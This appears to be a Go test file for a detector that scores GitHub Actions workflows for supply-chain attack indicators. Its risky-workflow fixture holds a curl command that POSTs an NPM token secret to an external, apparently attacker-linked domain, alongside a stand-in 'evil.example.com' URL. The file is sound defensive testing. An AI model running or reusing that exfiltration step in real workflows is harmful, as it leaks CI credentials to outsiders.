// Copyright 2024 The Authors (see AUTHORS file)
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package workflowsignals

import (
	"strings"
	"testing"
)

const benignWorkflow = `
name: CI
on:
  push:
    branches: [main]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@8f4b7f84864484a7bf31766abe9204da3cbe65b3
      - run: go test ./...
`

const riskyWorkflow = `
name: Github Actions Security
on:
  pull_request_target:
permissions:
  contents: write
jobs:
  exfil:
    runs-on: self-hosted
    steps:
      - uses: some/action@main
      - run: |
          curl -X POST https://bold-dhawan.45-139-104-115.plesk.page/collect \
            --data "token=${{ secrets.NPM_TOKEN }}"
`

func TestAnalyzeWorkflowTextBenign(t *testing.T) {
	a := AnalyzeWorkflowText(benignWorkflow)
	if a.Score != 0 {
		t.Errorf("Score = %d, want 0 for benign workflow", a.Score)
	}
	if len(a.MatchedIndicators) != 0 {
		t.Errorf("MatchedIndicators = %v, want none", a.MatchedIndicators)
	}
}

func TestAnalyzeWorkflowTextRisky(t *testing.T) {
	a := AnalyzeWorkflowText(riskyWorkflow)
	if a.Score < GhostActionScoreThreshold {
		t.Errorf("Score = %d, want >= %d", a.Score, GhostActionScoreThreshold)
	}
	if a.SecretRefCount != 1 {
		t.Errorf("SecretRefCount = %d, want 1", a.SecretRefCount)
	}
	if len(a.IOCDomains) != 1 || a.IOCDomains[0] != "bold-dhawan.45-139-104-115.plesk.page" {
		t.Errorf("IOCDomains = %v, want the plesk.page domain", a.IOCDomains)
	}
	wantIndicators := []string{
		"secrets_reference", "suspicious_trigger", "permissions_write",
		"self_hosted_runner", "unpinned_action_ref", "exfil_tool_with_external_url",
		"post_body_exfil", "known_ioc_domain",
	}
	for _, want := range wantIndicators {
		found := false
		for _, got := range a.MatchedIndicators {
			if got == want {
				found = true
				break
			}
		}
		if !found {
			t.Errorf("MatchedIndicators missing %q, got %v", want, a.MatchedIndicators)
		}
	}
}

func TestAnalyzeWorkflowTextRedactsSecretsInSnippets(t *testing.T) {
	a := AnalyzeWorkflowText(riskyWorkflow)
	for _, s := range a.Snippets {
		if strings.Contains(s, "NPM_TOKEN") {
			t.Errorf("snippet leaked secret name: %q", s)
		}
	}
}

func TestExternalDomainsExcludesGitHubHosts(t *testing.T) {
	urls := []string{
		"https://api.github.com/repos/x/y",
		"https://objects.githubusercontent.com/blob",
		"https://sub.github.com/x",
		"https://evil.example.com/collect",
	}
	got := externalDomains(urls)
	want := []string{"evil.example.com"}
	if len(got) != len(want) || got[0] != want[0] {
		t.Errorf("externalDomains() = %v, want %v", got, want)
	}
}

func TestUsesUnpinnedAction(t *testing.T) {
	cases := []struct {
		text string
		want bool
	}{
		{"uses: actions/checkout@v4", true},
		{"uses: actions/checkout@main", true},
		{"uses: actions/checkout@8f4b7f84864484a7bf31766abe9204da3cbe65b3", false},
	}
	for _, tc := range cases {
		if got := usesUnpinnedAction(tc.text); got != tc.want {
			t.Errorf("usesUnpinnedAction(%q) = %v, want %v", tc.text, got, tc.want)
		}
	}
}

func TestIsWorkflowPath(t *testing.T) {
	cases := []struct {
		path string
		want bool
	}{
		{".github/workflows/ci.yml", true},
		{".github/workflows/ci.yaml", true},
		{".github/workflows/nested/ci.yml", true},
		{"src/main.go", false},
		{"", false},
	}
	for _, tc := range cases {
		if got := isWorkflowPath(tc.path); got != tc.want {
			t.Errorf("isWorkflowPath(%q) = %v, want %v", tc.path, got, tc.want)
		}
	}
}
